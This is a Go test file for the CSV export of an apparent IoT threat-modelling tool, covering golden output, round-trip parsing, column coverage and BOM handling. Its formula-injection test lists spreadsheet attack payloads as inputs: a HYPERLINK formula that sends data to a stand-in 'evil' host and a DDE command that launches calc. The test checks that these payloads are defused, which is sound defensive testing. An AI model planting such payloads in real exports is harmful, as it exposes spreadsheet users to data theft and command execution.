package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"github.com/iotthreat/iotthreat/engine"
	"github.com/iotthreat/iotthreat/internal/outputtest"
)

var updateCSV = flag.Bool("update-csv", false, "rewrite the golden files in testdata/csv")

// referenceFindings are the reference example's findings.
func referenceFindings(t *testing.T) []engine.Finding {
	t.Helper()
	return analyzeExample(t, "reference.yaml").Report.Findings
}

func writeCSV(t testing.TB, findings []engine.Finding, opts CSVOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := opts.Write(&buf, &engine.Report{Findings: findings}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readCSV parses CSV back as any consumer would, insisting that every
// record has one field per column.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = len(findingColumns)
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	return records
}

// TestCSVGolden compares the reference example's CSV with
// testdata/csv/reference.csv; run with -update-csv to rewrite it.
func TestCSVGolden(t *testing.T) {
	findings := referenceFindings(t)
	got := writeCSV(t, findings, CSVOptions{})
	golden := filepath.Join("testdata", "csv", "reference.csv")
	if *updateCSV {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./report -run CSVGolden -update-csv)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("CSV differs from %s; if the change is intended, run with -update-csv", golden)
	}
	if !bytes.Equal(got, writeCSV(t, findings, CSVOptions{})) {
		t.Error("two writes of the same report differ")
	}
}

// TestCSVRoundTrip reads the CSV back and finds every finding in it,
// field for field.
func TestCSVRoundTrip(t *testing.T) {
	findings := referenceFindings(t)
	records := readCSV(t, writeCSV(t, findings, CSVOptions{}))
	if len(records) != len(findings)+1 {
		t.Fatalf("%d records for %d findings and a header", len(records), len(findings))
	}
	for i, c := range findingColumns {
		if records[0][i] != c.Header {
			t.Errorf("header %d is %q, want %q", i, records[0][i], c.Header)
		}
	}
	col := func(header string) int {
		i := findingColumnIndex(header)
		if i < 0 {
			t.Fatalf("no column %s", header)
		}
		return i
	}
	for fi, f := range findings {
		rec := records[fi+1]
		checks := map[string]string{
			"id":          f.ID,
			"title":       f.Title,
			"severity":    f.Severity,
			"target.id":   f.Target.ID,
			"why":         strings.Join(f.Why, "; "),
			"source.line": strconv.Itoa(f.Source.Line),
			"cwe":         strings.Join(citeIDs("CWE-", f.CWE), "; "),
		}
		for header, want := range checks {
			if got := rec[col(header)]; got != defuseFormula(want) {
				t.Errorf("%s %s = %q, want %q", f.ID, header, got, want)
			}
		}
	}
	if cwe := records[1][col("cwe")]; cwe != "" && !strings.HasPrefix(cwe, "CWE-") {
		t.Errorf("CWE cell %q does not cite CWE-n", cwe)
	}
}

// TestColumnsCoverFinding walks engine.Finding's JSON fields: every leaf
// must have a column of the same name, in the same order, so that CSV
// and XLSX never silently lose a field the JSON contract gains.
func TestColumnsCoverFinding(t *testing.T) {
	// The fields in the order of the JSON contract (engine.Finding's
	// MarshalJSON), objects flattened to dotted paths.
	f := referenceFindings(t)[0]
	f.Origin = "manual" // left out of the JSON when empty
	data, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	paths, err := objectPaths(data, "")
	if err != nil {
		t.Fatal(err)
	}
	var headers []string
	for _, c := range findingColumns {
		headers = append(headers, c.Header)
	}
	if !reflect.DeepEqual(paths, headers) {
		t.Errorf("columns do not match the fields of a finding's JSON:\nfields  %v\ncolumns %v", paths, headers)
	}
}

// objectPaths lists the keys of the JSON object data in order, the keys
// of objects inside it as dotted paths.
func objectPaths(data []byte, prefix string) ([]string, error) {
	dec := json.NewDecoder(bytes.NewReader(data))
	if _, err := dec.Token(); err != nil {
		return nil, err
	}
	var paths []string
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			return nil, err
		}
		key := prefix + tok.(string)
		var raw json.RawMessage
		if err := dec.Decode(&raw); err != nil {
			return nil, err
		}
		if raw[0] != '{' {
			paths = append(paths, key)
			continue
		}
		sub, err := objectPaths(raw, key+".")
		if err != nil {
			return nil, err
		}
		paths = append(paths, sub...)
	}
	return paths, nil
}

func TestCSVBOM(t *testing.T) {
	findings := referenceFindings(t)
	plain := writeCSV(t, findings[:3], CSVOptions{})
	bom := writeCSV(t, findings[:3], CSVOptions{BOM: true})
	if bytes.HasPrefix(plain, []byte("\xef\xbb\xbf")) {
		t.Error("the default CSV starts with a BOM")
	}
	if !bytes.Equal(bom, append([]byte("\xef\xbb\xbf"), plain...)) {
		t.Error("CSVOptions{BOM: true} is not the default output after a UTF-8 BOM")
	}
	var buf bytes.Buffer
	if err := CSV(&buf, &engine.Report{Findings: findings[:3]}); err != nil || !bytes.Equal(buf.Bytes(), plain) {
		t.Errorf("CSV differs from CSVOptions{}.Write (%v)", err)
	}
	if records := readCSV(t, writeCSV(t, nil, CSVOptions{})); len(records) != 1 {
		t.Errorf("a report without findings gives %d records, want the header alone", len(records))
	}
}

// TestCSVFormulaInjection checks OWASP's list of formula prefixes, and
// that harmless text is left alone.
func TestCSVFormulaInjection(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1)`: `'=HYPERLINK("http://evil/?"&A1)`,
		"=cmd|' /C calc'!A0":             "'=cmd|' /C calc'!A0",
		"+1+1":                           "'+1+1",
		"-2+3":                           "'-2+3",
		"@SUM(1,2)":                      "'@SUM(1,2)",
		"\t=1":                           "'\t=1",
		"\r=1":                           "'\r=1",
		"\x00=1":                         "'\x00=1",
		"":                               "",
		"plain text = fine":              "plain text = fine",
		"'already quoted":                "'already quoted",
		"ünïcode — ok":                   "ünïcode — ok",
	} {
		if got := defuseFormula(in); got != want {
			t.Errorf("defuseFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVHostileText(t *testing.T) {
	findings := outputtest.HostileFindings(referenceFindings(t))
	data := writeCSV(t, findings, CSVOptions{})
	records := readCSV(t, data)
	if len(records) != len(findings)+1 {
		t.Fatalf("%d records for %d findings: a line break or quote split a row", len(records), len(findings))
	}
	title, name, why := findingColumnIndex("title"), findingColumnIndex("target.name"), findingColumnIndex("why")
	for i, f := range findings {
		rec := records[i+1]
		// encoding/csv writes CRLF inside quoted fields when UseCRLF is
		// set, and reads it back as LF, as RFC 4180 readers do.
		want := strings.ReplaceAll(defuseFormula(f.Title), "\r\n", "\n")
		if rec[title] != want || rec[name] != want {
			t.Errorf("row %d: title %q, name %q, want %q", i, rec[title], rec[name], want)
		}
		if !strings.HasSuffix(rec[why], "; second reason") {
			t.Errorf("row %d: why %q", i, rec[why])
		}
		for c, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a formula prefix: %q", i, findingColumns[c].Header, cell)
			}
		}
	}
}

// BenchmarkCSV writes the findings of a 1,000-element synthetic model.
// Run: go test ./report -run '^$' -bench CSV -benchmem
func BenchmarkCSV(b *testing.B) {
	rep := outputtest.Synthetic(b, 1000).Report
	outputtest.Benchmark(b, len(rep.Findings), func(w io.Writer) error { return CSV(w, rep) })
}
